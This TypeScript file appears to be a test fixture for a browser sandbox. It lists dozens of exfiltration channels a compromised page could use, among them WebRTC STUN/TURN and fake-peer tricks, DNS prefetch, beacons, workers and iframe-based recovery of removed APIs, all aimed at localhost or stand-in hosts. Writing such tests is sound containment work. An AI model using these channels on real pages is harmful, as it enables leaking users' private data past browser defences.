/** Ways by which a page that was taken over could send something out. Run as text in a page; `port` and `u` (http, to that port) are there. */
export interface WayOut {
  code: string;
  /** Leads the page away, and so has one of its own. */
  leaves: boolean;
  /** Not to a port: a name that is looked up. */
  name: string | null;
}

const way = (code: string): WayOut => ({ code, leaves: false, name: null });
const leaving = (code: string): WayOut => ({ code, leaves: true, name: null });
const byName = (name: string, code: string): WayOut => ({ code, leaves: false, name });

/** An element in the page, and what is set on it. */
const element = (tag: string, set: string): WayOut =>
  way(`const e = document.createElement('${tag}'); ${set}; document.body.append(e);`);
const link = (rel: string, more = ''): WayOut =>
  way(`const l = document.createElement('link'); l.rel = '${rel}'; ${more}; l.href = u; document.head.append(l);`);

const kept = 'globalThis.kept = [...(globalThis.kept ?? []), p];';
/** Asks for a name out of a frame, in which Chromium puts back what a page has had taken away. `f`: how the page comes by it. */
const byFrame = (what: string, made: string): WayOut =>
  byName(
    `patient-${what}.of-`,
    `${made}; ${asksServer(`'turn:patient-${what}.of-' + port + '.example:' + port + '?transport=tcp'`, '(f.contentWindow ?? window[length - 1])')}`,
  );
const put = 'document.body.append(f)';
/** Asks a STUN or TURN server for the page's own address. */
const asksServer = (url: string, from = 'globalThis'): string => `
  const p = new ${from}.RTCPeerConnection({ iceServers: [{ urls: ${url}, username: 'PATIENT', credential: 'x' }] });
  p.createDataChannel('x'); ${kept}
  await p.setLocalDescription(await p.createOffer());`;
/** Talks to a made-up peer, whose name (256 letters) says what somebody wants to know. */
const talksToPeer = (candidate: string): string => `
  const p = new RTCPeerConnection(); p.createDataChannel('x'); ${kept}
  await p.setLocalDescription(await p.createOffer());
  const said = ['v=0', 'o=- 1 1 IN IP4 127.0.0.1', 's=-', 't=0 0', 'a=group:BUNDLE 0',
    'm=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 0.0.0.0',
    'a=ice-ufrag:' + btoa('PATIENT-YAMADA'.repeat(10)).replaceAll('=', ''), 'a=ice-pwd:aaaaaaaaaaaaaaaaaaaaaaaaaa',
    'a=fingerprint:sha-256 ' + Array(32).fill('A1').join(':'), 'a=setup:passive', 'a=mid:0', 'a=sctp-port:5000',
    ${candidate}, ''].join('\\r\\n');
  await p.setRemoteDescription({ type: 'answer', sdp: said });`;
const xhr = (isLate: boolean): WayOut =>
  way(`const x = new XMLHttpRequest(); x.open('GET', u, ${String(isLate)}); x.send();`);
const inFrame = (frame: string): WayOut => element('iframe', frame);
const rules = (kind: string): WayOut =>
  way(`const s = document.createElement('script'); s.type = 'speculationrules';
    s.textContent = JSON.stringify({ ${kind}: [{ source: 'list', urls: [u], eagerness: 'immediate' }] }); document.head.append(s);`);
const worker = (kind: string): WayOut =>
  way(`new ${kind}(URL.createObjectURL(new Blob(['fetch("' + u + '", { mode: "no-cors" })'])));`);

export const waysOut: Readonly<Record<string, WayOut>> = {
  'a peer, over UDP': way(talksToPeer("'a=candidate:1 1 udp 2113937151 127.0.0.1 ' + port + ' typ host'")),
  'a peer, over TCP': way(
    talksToPeer("'a=candidate:1 1 tcp 1518280447 127.0.0.1 ' + port + ' typ host tcptype passive'"),
  ),
  'a STUN server': way(asksServer("'stun:127.0.0.1:' + port")),
  'a TURN server, over UDP': way(asksServer("'turn:127.0.0.1:' + port + '?transport=udp'")),
  'a TURN server, over TCP': way(asksServer("'turn:127.0.0.1:' + port + '?transport=tcp'")),
  'a TURN server, over TLS': way(asksServer("'turns:127.0.0.1:' + port + '?transport=tcp'")),
  'a STUN server, out of an empty frame': way(
    `const f = document.createElement('iframe'); document.body.append(f); ${asksServer("'stun:127.0.0.1:' + port", 'f.contentWindow')}`,
  ),
  'a TURN server over TCP, out of an empty frame': way(
    `const f = document.createElement('iframe'); document.body.append(f); ${asksServer("'turn:127.0.0.1:' + port + '?transport=tcp'", 'f.contentWindow')}`,
  ),
  WebTransport: way(
    `const t = new WebTransport('https://127.0.0.1:' + port + '/'); t.ready.catch(() => {}); t.closed.catch(() => {});`,
  ),
  'WebTransport, out of an empty frame': way(
    `const f = document.createElement('iframe'); document.body.append(f);
     const t = new f.contentWindow.WebTransport('https://127.0.0.1:' + port + '/'); t.ready.catch(() => {}); t.closed.catch(() => {});`,
  ),
  fetch: way(`await fetch(u, { mode: 'no-cors' });`),
  'fetch that outlives the page': way(
    `await fetch(u, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' });`,
  ),
  'fetch for later': way(`fetchLater(u, { method: 'POST', body: 'x', activateAfter: 0 });`),
  XMLHttpRequest: xhr(true),
  'a beacon': way(`navigator.sendBeacon(u, 'x');`),
  WebSocket: way(`new WebSocket('ws://127.0.0.1:' + port + '/');`),
  WebSocketStream: way(`new WebSocketStream('ws://127.0.0.1:' + port + '/').opened.catch(() => {});`),
  EventSource: way(`new EventSource(u);`),
  'a picture': way(`new Image().src = u;`),
  'a picture by size': element('img', `e.srcset = u + ' 1x'`),
  'a picture of an SVG': way(
    `const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const i = document.createElementNS(s.namespaceURI, 'image');
     i.setAttribute('href', u); s.append(i); document.body.append(s);`,
  ),
  'a picture that reports': element('img', 'e.attributionSrc = u'),
  'a frame': inFrame('e.src = u'),
  'a frame of its own text': inFrame(`e.srcdoc = '<img src="' + u + '">'`),
  'a frame of data': inFrame(`e.src = 'data:text/html,<img src="' + u + '">'`),
  'a frame of a blob': inFrame(
    `e.src = URL.createObjectURL(new Blob(['<img src="' + u + '">'], { type: 'text/html' }))`,
  ),
  'a form into a frame': way(
    `const f = document.createElement('iframe'); f.name = 'form'; document.body.append(f);
     const e = document.createElement('form'); e.target = 'form'; e.action = u; e.method = 'post'; document.body.append(e); e.submit();`,
  ),
  'a form': leaving(
    `const e = document.createElement('form'); e.action = u; e.method = 'post'; document.body.append(e); e.submit();`,
  ),
  'a ping': way(
    `const a = document.createElement('a'); a.href = '#x'; a.ping = u; document.body.append(a); a.click();`,
  ),
  'a download': leaving(
    `const a = document.createElement('a'); a.href = u; a.download = 'x'; document.body.append(a); a.click();`,
  ),
  'a window': way(`window.open(u);`),
  'a link into a window': way(
    `const a = document.createElement('a'); a.href = u; a.target = '_blank'; document.body.append(a); a.click();`,
  ),
  'a refresh': leaving(
    `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + u; document.head.append(m);`,
  ),
  'another address': leaving(`location.href = u;`),
  'a film': element('video', 'e.src = u'),
  'a poster of a film': element('video', 'e.poster = u'),
  'a sound': element('audio', 'e.src = u; e.load()'),
  'an object': element('object', 'e.data = u'),
  'an embedded page': element('embed', `e.type = 'text/html'; e.src = u`),
  'a button of a picture': element('input', `e.type = 'image'; e.src = u`),
  'a background': way(`document.body.style.backgroundImage = 'url(' + u + ')';`),
  'a sheet of styles': way(
    `const s = new CSSStyleSheet(); s.replaceSync('html { background: url(' + u + ') }');
     document.adoptedStyleSheets = [...document.adoptedStyleSheets, s];`,
  ),
  'an import of styles': element('style', `e.textContent = '@import url(' + u + ');'`),
  'a font': way(`await new FontFace('x' + port, 'url(' + u + ')').load();`),
  'a script': element('script', 'e.src = u'),
  'a script module': element('script', `e.type = 'module'; e.src = u`),
  'an import': way(`await import(u);`),
  'a worker': worker('Worker'),
  'a shared worker': worker('SharedWorker'),
  'a worklet of sound': way(`await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(u);`),
  'a worklet of painting': way(`await CSS.paintWorklet.addModule(u);`),
  'a linked sheet of styles': link('stylesheet'),
  'a link that fetches ahead': link('prefetch'),
  'a link that loads ahead': link('preload', `l.as = 'image'`),
  'a link that loads a module ahead': link('modulepreload'),
  'rules of what to fetch ahead': rules('prefetch'),
  'a provider of identities': way(
    `navigator.credentials.get({ identity: { providers: [{ configURL: 'https://127.0.0.1:' + port + '/', clientId: 'x' }] } }).catch(() => {});`,
  ),
  'a name to look up ahead': byName(
    'patient-ahead.example',
    `const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//patient-ahead.example'; document.head.append(l);`,
  ),
  'a TURN server by its name': byName(
    'patient-turn.example',
    asksServer("'turn:patient-turn.example:' + port + '?transport=tcp'"),
  ),
  'a TURN server by its name, out of an empty frame': byFrame(
    'empty',
    `const f = document.createElement('iframe'); ${put}`,
  ),
  '… out of one by another name': byFrame(
    'named',
    `const f = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:iframe'); ${put}`,
  ),
  '… out of a set of frames': byFrame(
    'set',
    `const s = document.createElement('frameset'); document.documentElement.append(s); const f = document.createElement('frame'); s.append(f)`,
  ),
  '… out of an object': byFrame(
    'object',
    `const f = document.createElement('object'); f.data = 'about:blank'; f.type = 'text/html'; ${put}`,
  ),
  '… out of an element of its own': byFrame(
    'own',
    `class Own extends HTMLIFrameElement {} customElements.define('o-' + port, Own, { extends: 'iframe' }); const f = new Own(); ${put}`,
  ),
  '… out of a document that was read': byFrame(
    'read',
    `const f = new DOMParser().parseFromString('<iframe></iframe>', 'text/html').querySelector('iframe'); ${put}`,
  ),
  '… out of a paper that is put in once more': byFrame(
    'paper',
    `const f = document.querySelector('iframe[title]') ?? document.createElement('iframe'); f.removeAttribute('sandbox'); f.remove(); ${put}`,
  ),
  '… out of a frame within one': byFrame(
    'within',
    `const of = document.createElement('iframe'); document.body.append(of);
     const f = of.contentDocument.createElement('iframe'); of.contentDocument.body.append(f)`,
  ),
  'fetch from a name': byName('patient-fetch.example', `await fetch('http://patient-fetch.example/');`),
};

/** As it is run in a page: nothing that it throws matters. */
export const codeOf = ({ code }: WayOut, port: number): string =>
  `(async () => { const port = ${port}, u = 'http://127.0.0.1:' + port + '/'; try { ${code} } catch {} })(); undefined`;
